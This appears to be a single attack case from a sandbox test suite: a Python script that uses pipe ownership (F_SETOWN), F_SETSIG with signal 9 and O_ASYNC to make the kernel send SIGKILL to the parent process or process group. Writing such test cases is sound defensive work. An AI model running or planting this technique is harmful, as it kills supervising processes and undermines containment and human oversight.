# attack: signals_by_descriptors
# kind: effect   task: any   naive: unsafe
# attempts: have the kernel kill the parent for us: F_SETOWN, F_SETSIG and O_ASYNC on an own pipe
import fcntl
import os
import struct

for owner in (os.getppid(), -os.getpgrp(), -os.getpgid(os.getppid()) if hasattr(os, "getpgid") else 1):
    read, write = os.pipe()
    for prepare in (
        lambda: fcntl.fcntl(read, fcntl.F_SETOWN, owner),
        lambda: fcntl.fcntl(read, 15, struct.pack("ii", 1, owner)),
        lambda: fcntl.ioctl(read, 0x8901, struct.pack("i", owner)),
        lambda: fcntl.fcntl(read, 10, 9),
        lambda: fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
    ):
        try:
            prepare()
        except OSError:
            pass
    os.write(write, b"x")
